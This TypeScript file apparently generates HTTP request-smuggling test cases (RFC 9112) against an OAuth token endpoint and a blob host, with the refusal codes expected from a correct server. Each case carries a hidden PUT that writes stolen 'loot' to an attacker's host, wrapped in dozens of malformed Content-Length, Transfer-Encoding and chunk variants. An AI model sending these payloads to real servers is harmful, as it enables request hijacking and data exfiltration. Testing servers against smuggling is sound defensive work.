import type { Attack } from './attack.ts';
import type { Facts } from './facts.ts';

const TOKEN = 'POST /oauth2/token HTTP/1.1';

/** Bytes that two readers could cut into requests in two ways (RFC 9112 §11.2); the second one writes to the attacker. */
export function smugglingAttacks(facts: Facts): Attack[] {
  const { login, data, attacker, drop, loot, ticket } = facts;
  const hidden = [
    `PUT https://${attacker.host}${drop} HTTP/1.1`,
    `Host: ${attacker.host}`,
    'x-ms-blob-type: BlockBlob',
    `Content-Length: ${loot.length}`,
    '',
    loot,
  ].join('\r\n');
  const attacks: Attack[] = [];
  const add = (what: string, head: readonly string[], body: string, wanted: readonly number[], to = login) =>
    attacks.push({ what, to, bytes: `${head.join('\r\n')}\r\n\r\n${body}`, wanted });
  const post = (...fields: string[]) => [TOKEN, `Host: ${login}`, ...fields];
  const CHUNKED = 'Transfer-Encoding: chunked';
  const end = `0\r\n\r\n${hidden}`;

  add('Content-Length, then chunked', post('Content-Length: 6', CHUNKED), end, [400]);
  add('chunked, then Content-Length', post(CHUNKED, 'Content-Length: 6'), end, [400]);
  for (const coding of ['chunked, identity', '\x0bchunked']) {
    add(`Transfer-Encoding ${JSON.stringify(coding)}`, post(`Transfer-Encoding: ${coding}`), end, [400]);
  }
  // Well-formed, and a coding that nobody here knows.
  for (const coding of ['xchunked', 'identity', '"chunked"', 'chunked;q=1', ' \tchunked x']) {
    add(`Transfer-Encoding ${JSON.stringify(coding)}`, post(`Transfer-Encoding: ${coding}`), end, [501]);
  }
  add('Transfer-Encoding before a space', post('Transfer-Encoding : chunked'), end, [400]);
  add('two Transfer-Encodings', post(CHUNKED, 'Transfer-Encoding: identity'), end, [400]);
  for (const length of ['+5', '-1', '0x5', '5, 5', '5 5', '1e1', '99999999999999999999', '']) {
    add(`Content-Length ${JSON.stringify(length)}`, post(`Content-Length: ${length}`), hidden, [400]);
  }
  add('two Content-Lengths', post('Content-Length: 0', `Content-Length: ${hidden.length}`), hidden, [400]);
  add('obs-fold', post('X-A: b', ` ${CHUNKED}`, 'Content-Length: 0'), hidden, [400]);
  add('obs-fold of the Transfer-Encoding', post('Transfer-Encoding:', ' chunked'), end, [400]);
  add('a field that begins with a space', post(` ${CHUNKED}`), end, [400]);
  add('a bare LF in the header section', post(`X-A: b\nContent-Length: ${hidden.length}`), hidden, [400]);
  add('a bare CR in the header section', post(`X-A: b\r${CHUNKED}`), end, [400]);
  add('a NUL in a field', post('X-A: \0b'), hidden, [400]);
  attacks.push({
    what: 'bare LFs throughout',
    to: login,
    bytes: `${post('Content-Length: 0').join('\n')}\n\n${hidden}`,
    wanted: [400],
  });

  // The body's first request is under way when the second one shows itself to be none: the connection is cut, unanswered.
  const chunk = (size: string) => `${size}\r\n${hidden}\r\n0\r\n\r\n`;
  const size = hidden.length.toString(16);
  for (const wrong of [
    `0x${size}`,
    ` ${size}`,
    `+${size}`,
    `-${size}`,
    'fffffffffffffffff',
    '',
    `${size} x`,
  ]) {
    add(`chunk size ${JSON.stringify(wrong)}`, post(CHUNKED), chunk(wrong), []);
  }
  add('a chunk longer than its size', post(CHUNKED), `1\r\n${hidden}\r\n0\r\n\r\n`, []);
  add('chunks that end in bare LFs', post(CHUNKED), `${size}\n${hidden}\n0\n\n`, []);
  add('a bare LF in a chunk extension', post(CHUNKED), `0;a=\n${hidden}\r\n\r\n`, []);
  add('a chunk extension without end', post(CHUNKED), `1;${'x'.repeat(40_000)}`, []);

  // These are well-formed: the second request is the body of the first, or one of its own that is refused.
  const close = 'Connection: close';
  add(
    'a chunk extension that is a request',
    post(CHUNKED, close),
    `1;a="${hidden.split('\r\n')[0]}"\r\nx\r\n0\r\n\r\n`,
    [200],
  );
  add('a trailer with a Host', post(CHUNKED, close), `1\r\nx\r\n0\r\nHost: ${attacker.host}\r\n\r\n`, [200]);
  add('a request as a body', post(`Content-Length: ${hidden.length}`, close), hidden, [200]);
  add('a second, pipelined request', [`GET /v2/ HTTP/1.1`, `Host: ${login}`], hidden, [401, 421]);
  add(
    'a second request behind a GET with a body',
    ['GET /v2/ HTTP/1.1', `Host: ${login}`, CHUNKED],
    end,
    [401, 421],
  );
  const get = [`GET ${ticket} HTTP/1.1`, `Host: ${data}`];
  add('a second request behind a blob', get, hidden, [200, 421], data);
  add(
    'a write behind a blob',
    get,
    hidden.replace(`https://${attacker.host}${drop}`, ticket).replace(attacker.host, data),
    [200, 405],
    data,
  );
  add('the preface of HTTP/2', ['PRI * HTTP/2.0'], 'SM\r\n\r\n', [400]);
  return attacks;
}
